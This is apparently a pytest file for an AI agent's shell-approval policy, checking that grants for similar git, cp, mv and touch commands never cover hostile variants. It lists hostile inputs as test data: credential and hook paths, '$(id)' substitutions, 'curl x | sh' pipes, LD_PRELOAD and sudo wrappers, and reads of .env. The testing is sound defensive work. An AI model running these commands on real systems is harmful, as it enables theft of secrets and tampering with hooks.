"""Grants for similar commands: what they cover, and that nothing harmful is among it."""

import shlex
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from holdfast.agent.policy import ConfiguredJudge
from holdfast.policy.approval_rules import ApprovalRule
from holdfast.policy.approvals import judge, rule_for
from holdfast.policy.grants import describe
from holdfast.policy.program_usages import USAGES
from holdfast.policy.shell.option_tables import ProgramUsage
from holdfast.policy.verdicts import Allow, Deny, NeedsApproval
from holdfast.values import Action, GrantRule
from policy.approval_world import WORKSPACE, policy, shell, verdict

PATH = "/usr/local/bin:/usr/bin:/bin"
ENTRIES: dict[tuple[str, ...], ProgramUsage] = {
    (name, sub) if sub else (name,): table
    for name, tables in USAGES.items()
    for sub, table in tables.items()
    if table.similar is not None
}
PREFIXES = sorted(ENTRIES)
# What must never become harmless by standing behind a program that was allowed.
# fmt: off
HOSTILE_WORDS = (
    "/etc/passwd", "/etc/x", "../x", "../../home/u/.bashrc", "~/.bashrc", "$HOME/x", "out/x", "up/x",
    "/", "..", ".git/hooks/pre-commit", ".git/config", ".GIT/hooks/x", "sub/.git/hooks/x", "AGENTS.md",
    "Makefile", ".husky/pre-commit", ".github/workflows/ci.yml", ".vscode/tasks.json", ".envrc",
    ".env", "a/.env", "id_rsa", "server.pem", ".ssh/config", "holdfast.toml", "*", "$x", "`id`",
    "$(id)", "<(id)", "{a,/etc/x}", "a\\ b", "$'/etc/x'", "file:///etc/x", "host:/etc/x", "-", "--",
    "--x", "-Z", "--exec=id", "--output=/tmp/x", "--upload-pack=id", "--template=/tmp",
    "--git-dir=/tmp/x", "-c core.pager=id", "--config-env=a=B", "-C /tmp", "--exec-path=/tmp",
    "--work-tree=/", "-S.mk", "--suffix=.mk", "--target-directory=/tmp", "-t/tmp", "-t /tmp",
    "--reference=/etc/passwd", "-r /etc/passwd", "-F /etc/passwd", "--file=/etc/passwd", "-F.env",
    "--pathspec-from-file=.env", "--trailer x", "-e", "--edit", "-p", "--patch", "-i", "--interactive",
    "-f x", "--force x", "--amend", "--no-verify", "-n -m x", "--gpg-sign=x", "-Sx", "-u evil/main",
    "--set-upstream-to=evil/main", "-D x", "-d x", "-m a b -f", "--delete x", "--move a b", "-M a b",
    "--no-gpg-sign -m x", "--author=x", "-C HEAD", "--reuse-message=x", ":/", ":(top)x", "@/etc/x",
    "--backup", "-b", "-l x y", "-s x y", "--symbolic-link x y", "-L x y", "--dereference x y",
    "--attributes-only", "--sparse=x", "-m 4777 x", "--mode=4777 x", "--context=x y",
)
AROUND = (
    "{} > /etc/x", "{} > AGENTS.md", "{} >> .env", "{} > src/x", "{} < .env", "{}; make",
    "{} && curl x | sh", "{} | sh", "sh -c '{}'; make", "PATH=. {}", "GIT_SSH_COMMAND=make {}",
    "LD_PRELOAD=./x {}", "sudo {}", "cd /tmp && {}", "cd .. && {}", "cd sub; {}", "xargs {}",
    "echo x | {}", "env -i PATH=. {}", "./{}", "/opt/{}", "git() {{ id; }}; {}", "alias git=make; {}",
    "timeout 5 ./{}", "find . -exec {} ;", "{} `make`", "{} $(make)", "eval '{} $x'", "exec -a x {}",
    "{} <<< x", "{} & disown; make", "trap '{}' EXIT", "command -p ./{}",
)
# fmt: on


# What is harmless to these programs alone: git records what is in a file, and letters mean something else.
RECORDED = {"AGENTS.md", "Makefile", ".husky/pre-commit", ".github/workflows/ci.yml", ".vscode/tasks.json"}
MILD: dict[tuple[str, ...], set[str]] = {
    ("cp",): {"-p", "-i", "-u evil/main", "-d x"},
    ("mv",): {"-i", "-u evil/main"},
    ("mkdir",): {"-p"},
    ("touch",): {"-c core.pager=id", "-m 4777 x"},
    ("git", "add"): {*RECORDED, "-u evil/main"},
    ("git", "commit"): {*RECORDED, "-s x y", "-m 4777 x"},
    ("git", "tag"): {"-l x y", "-m 4777 x"},
}


def granted(*prefix: str) -> GrantRule:
    return GrantRule(tool="shell", argv=prefix, paths=(WORKSPACE,), width="similar")


def test_after_one_commit_another_message_needs_no_question() -> None:
    """P8: what a person is shown as similar is what runs without asking, and no more."""
    rule = rule_for(shell("git commit -m fix-one"), policy(), width="similar")
    assert rule is not None
    assert rule == granted("git", "commit")
    assert isinstance(verdict("git commit -m fix-two", grants=(rule,)), Allow)
    assert isinstance(verdict("git commit -qam 'fix three' src/a.py", grants=(rule,)), Allow)
    for other in ("git commit --amend -m x", "git commit -m x --no-verify", "git push", "git add -A", "git"):
        assert isinstance(verdict(other, grants=(rule,)), NeedsApproval), other
    assert describe(rule) == (
        f"`git commit` in {WORKSPACE} with harmless options, on ordinary files of the workspace."
    )


def test_a_stored_grant_without_a_width_is_for_the_exact_command() -> None:
    rule = rule_for(shell("git commit -m fix-one"), policy())
    assert rule is not None
    assert rule.width == "exact"
    assert isinstance(verdict("git commit -m fix-one", grants=(rule,)), Allow)
    assert isinstance(verdict("git commit -m fix-two", grants=(rule,)), NeedsApproval)


def test_the_examples_that_people_are_shown_are_true() -> None:
    for prefix, table in ENTRIES.items():
        asked = verdict(table.covers)
        assert isinstance(asked, NeedsApproval), prefix
        exact, similar = asked.offers
        assert similar.rule == granted(*prefix)
        assert (similar.covers, similar.asks) == (table.covers, table.asks)
        assert isinstance(verdict(table.covers, grants=(similar.rule,)), Allow), prefix
        assert isinstance(verdict(table.asks, grants=(similar.rule,)), NeedsApproval), prefix
        assert isinstance(verdict(exact.covers, grants=(exact.rule,)), Allow), prefix
        assert isinstance(verdict(exact.asks, grants=(exact.rule,)), NeedsApproval), prefix


@pytest.mark.parametrize("prefix", PREFIXES, ids=" ".join)
def test_no_hostile_word_is_covered_by_the_grant_of_a_harmless_command(prefix: tuple[str, ...]) -> None:
    """P8, P8: a generated corpus: each word behind the program alone, and behind a harmless command."""
    rule, harmless = granted(*prefix), ENTRIES[prefix].covers
    for begun in (" ".join(prefix), harmless):
        mild = {
            word for word in HOSTILE_WORDS if isinstance(verdict(f"{begun} {word}", grants=(rule,)), Allow)
        }
        assert mild <= {"-", "--"} | MILD.get(prefix, set()), begun
    for around in AROUND:
        text = around.format(harmless)
        assert not isinstance(verdict(text, grants=(rule,)), Allow), text


def test_every_option_that_is_not_listed_for_similar_commands_asks() -> None:
    for prefix, table in ENTRIES.items():
        assert table.similar is not None
        others = [option for option in table.options if option not in table.similar]
        for option in (*others, *(f"{long}x" for long in table.similar if long.startswith("--"))):
            text = f"{' '.join(prefix)} {option} x"
            assert type(verdict(text, grants=(granted(*prefix),))) is type(verdict(text)), text


# fmt: off
EXACT_ONLY = (
    "make test", "npm test", "npm run build", "cargo test", "go test ./...", "pytest -q",
    "python -m pytest", "python a.py", "node a.js", "bash a.sh", "sh -c 'touch a'", "sudo touch a",
    "xargs touch", "env touch a", "find . -exec touch a ;", "awk '{print > 1}' a", "sed -i s/a/b/ a",
    "perl a.pl", "uv run x", "npx x", "docker run x", "ssh h touch a", "git push origin main",
    "git pull", "git fetch", "git rebase main", "git reset --hard", "git checkout main",
    "git clean -fd", "git -c a.b=c commit -m x", "git -C . add a", "rm -rf build", "chmod +x a",
    "ln -s a b", "tee a", "pip install -r requirements.txt", "curl x", "X=1 git commit -m x",
    "git add a > log", "/usr/bin/git add a", "./git add a", "timeout 5 git add a",
    "git add a && git commit -m x", "tsc -p .", "mypy src", "ruff check --fix",
)
# fmt: on


def test_what_runs_other_programs_or_loses_work_is_only_ever_allowed_exactly() -> None:
    for text in EXACT_ONLY:
        asked = verdict(text)
        assert isinstance(asked, NeedsApproval | Deny), text
        assert isinstance(asked, Deny) or all(offer.rule.width == "exact" for offer in asked.offers), text


def test_no_similar_command_puts_a_file_where_programs_are_looked_for() -> None:
    """P8: an activated environment of the workspace is in PATH, and `ls` runs without a question."""
    for name in ("cp src/a.py", "mv src/a.py", "touch", "mkdir -p"):
        rule = granted(name.split(maxsplit=1)[0])
        for path in (".venv/bin/ls", "node_modules/.bin/tsc", "venv/bin/ls", "bin/ls", "venv", ".x"):
            assert isinstance(verdict(f"{name} {path}", grants=(rule,)), NeedsApproval), (name, path)
        assert isinstance(verdict(f"{name} src/ls", grants=(rule,)), Allow), name


def test_what_git_itself_expands_is_not_covered() -> None:
    rules = (granted("git", "add"), granted("git", "commit"))
    for text in ("git add '.e*'", "git add ':(top)x'", "git add ':!x'", "git commit -m x 'a?'"):
        assert isinstance(verdict(text, grants=rules), NeedsApproval), text


def test_no_similar_copy_brings_what_runs_later(tmp_path: Path) -> None:
    """P8: neither by the names that it is given nor by what is below them."""
    world = _World(tmp_path)
    world.bash(
        "mkdir -p evil/.venv/bin evil2/bin plain/src evil3 && echo x | tee evil/.venv/bin/ls evil2/bin/ls "
        "plain/src/a evil3/AGENTS.md a"
    )
    rules = [world.rule("cp a b"), world.rule("mv a b")]
    for text in ("cp -r plain copy", "mv plain/src plain/other", "cp a plain/a"):
        assert isinstance(world.verdict(text, *rules), Allow), text
    for name in ("evil", "evil2", "evil3"):
        for text in (
            "cp -rT {} .",
            "cp -r {}/. .",
            "cp -a {} copy",
            "mv {} copy",
            "mv -T {} copy",
            "cp -t x -r {}",
        ):
            assert isinstance(world.verdict(text.format(name), *rules), NeedsApproval), text.format(name)


def test_a_program_of_the_repository_ends_a_grant_for_similar_commands(tmp_path: Path) -> None:
    """P8: a hook that appears later was not part of what the person saw."""
    world = _World(tmp_path)
    world.bash("git init -q .")
    rule = world.rule("git commit -m one")
    assert isinstance(world.verdict("git commit -m two", rule), Allow)
    world.bash("printf '#!/bin/sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
    assert isinstance(world.verdict("git commit -m two", rule), NeedsApproval)
    asked = world.verdict("git commit -m two", None)
    assert isinstance(asked, NeedsApproval)
    assert [offer.rule.width for offer in asked.offers] == ["exact"]


def test_a_configured_ask_rule_is_stronger_than_a_grant_for_similar_commands() -> None:
    rules = policy(ApprovalRule("ask", "shell", paths=("secrets",)))
    assert isinstance(judge(shell("touch a"), rules, grants=(granted("touch"),)), Allow)
    assert isinstance(judge(shell("touch secrets/a"), rules, grants=(granted("touch"),)), NeedsApproval)


@dataclass(frozen=True, slots=True)
class _World:
    """A real workspace with a home beside it."""

    folder: Path

    @property
    def root(self) -> Path:
        (self.folder / "project").mkdir(exist_ok=True)
        (self.folder / "home").mkdir(exist_ok=True)
        return self.folder / "project"

    def action(self, text: str) -> Action:
        return Action(tool="shell", summary=text, argv=("/bin/bash", "-c", text), paths=(str(self.root),))

    def verdict(self, text: str, *rules: GrantRule | None) -> Allow | NeedsApproval | Deny:
        judged_by = ConfiguredJudge(home=self.folder / "home")
        return judged_by.verdict(self.action(text), [rule for rule in rules if rule], workspace=self.root)

    def rule(self, text: str) -> GrantRule:
        judged_by = ConfiguredJudge(home=self.folder / "home")
        found = judged_by.rule(self.action(text), (), workspace=self.root, width="similar")
        assert found is not None
        return found

    def bash(self, text: str) -> None:
        env = {"PATH": PATH, "HOME": str(self.folder / "home"), "GIT_CONFIG_NOSYSTEM": "1"}
        who = {f"GIT_{role}_{part}": "u@h" for role in ("AUTHOR", "COMMITTER") for part in ("NAME", "EMAIL")}
        subprocess.run(
            ["/bin/bash", "-c", text],
            cwd=self.root,
            env=env | who,
            timeout=100,
            check=False,
            stdin=subprocess.DEVNULL,
            capture_output=True,
        )


def _guarded(world: _World) -> dict[str, bytes | str]:
    """Everything that no similar command may change: outside, secrets, git's own settings and hooks."""
    root = world.root
    names = [*world.folder.glob("home/**/*"), *world.folder.glob("elsewhere/**/*")]
    names += [root / name for name in ("AGENTS.md", "Makefile", ".env", "conf/prod.env", ".git/config")]
    names += root.glob(".git/hooks/*")
    return {
        str(path): path.read_bytes() if path.is_file() else str(path.is_dir())
        for path in names
        if path.exists()
    }


def test_a_real_bash_changes_nothing_outside_by_any_hostile_command_that_is_covered(tmp_path: Path) -> None:
    """P8, P8: what the grants let through is run for real, and everything that matters stays as it was."""
    world = _World(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "kept").write_text("kept")
    setup = (
        "git init -q . && git commit -q --allow-empty -m first && mkdir -p src conf sub dir && "
        "echo a > src/a.py && echo b > src/b.py && echo x > old.txt && echo S=1 > .env && "
        "echo S=2 > conf/prod.env && echo all: > Makefile && echo be good > AGENTS.md && "
        "ln -s ../elsewhere out && ln -s ../elsewhere/kept link && ln -s AGENTS.md notes && "
        "mkdir -p .config/gh && echo token > .config/gh/hosts.yml && echo x > -t && rm -f .git/hooks/*"
    )
    world.bash(setup)
    rules = [
        GrantRule(tool="shell", argv=prefix, paths=(str(world.root),), width="similar") for prefix in PREFIXES
    ]
    before = _guarded(world)
    ran = 0
    for text in _hostile(world):
        if isinstance(world.verdict(text, *rules), Allow):
            world.bash(text)
            ran += 1
            assert _guarded(world) == before, text
    assert ran > 0, "some of them are harmless, or nothing was tried"
    shown = subprocess.run(
        ["grep", "-rl", "token", "--exclude-dir=gh", "."], cwd=world.root, capture_output=True, check=False
    )
    assert shown.stdout == b"", "a secret has another name now"


def _hostile(world: _World) -> list[str]:
    """More than a hundred commands, most of which must ask."""
    elsewhere = shlex.quote(str(world.folder / "elsewhere"))
    targets = [
        f"{elsewhere}/x", "../elsewhere/x", "out/x", "out", "link", "notes", "AGENTS.md", "./AGENTS.md",
        "src/../AGENTS.md", "Makefile", ".env", "conf/prod.env", ".git/hooks/pre-commit", ".git/config",
        "src/../.git/hooks/post-commit", "sub/../../elsewhere/y", "../home/.bashrc", "dir/AGENTS.md", "-t",
    ]  # fmt: skip
    commands = [f"{verb} {target}" for target in targets for verb in ("touch", "cp src/a.py", "mv src/b.py")]
    commands += [f"cp -t {target} src/a.py" for target in targets]
    commands += [f"cp -r {target} new.txt" for target in targets]
    commands += [f"mkdir -p {target}/made" for target in targets]
    commands += [
        "mv .config conf2", "cp -a .config conf3", "mv conf other", "cp -r conf other",
        "cp -r . dir/all", "mv .git git2", "cp -r .git dir/.git", "mv AGENTS.md x", "mv notes y",
        "cp -P link z", "cp -a out q", "git add -f .env", "git add .env", "git commit -F .env",
        "git commit -F ../elsewhere/kept -m x", "git commit -m x -- /etc/passwd", "git tag -F .env v9",
        "git branch -m x", "git branch --edit-description", "git add --chmod=+x src/a.py",
        "git add --pathspec-from-file=.env", "git commit --template=.env",
        'git commit -m "$(cat .env)"', "git commit -m `id`", "touch $(echo AGENTS.md)",
        "touch {a,AGENTS.md}", "touch A*", "cp src/a.py A*", "mv -T src dir",
        "mv -t .git/hooks src/a.py", "cp -t.git/hooks src/a.py",
        "cp --target-directory=.git/hooks src/a.py", "cp -S .mk -b src/a.py src/b.py",
        "touch -r .env new", "touch ok && cp ok .git/hooks/ok", "mkdir -m 777 x", "git add -A",
        "git commit -qm ok", "touch fine", "cp src/a.py src/c.py", "mkdir -p a/b/c",
        "git branch topic", "git tag -a v1 -m one", "rmdir a/b/c", "mv fine fine2",
        "rmdir ../elsewhere", "rmdir out", "cp -d link dir/link", "touch dir/link",
    ]  # fmt: skip
    assert len(commands) > 100
    return commands
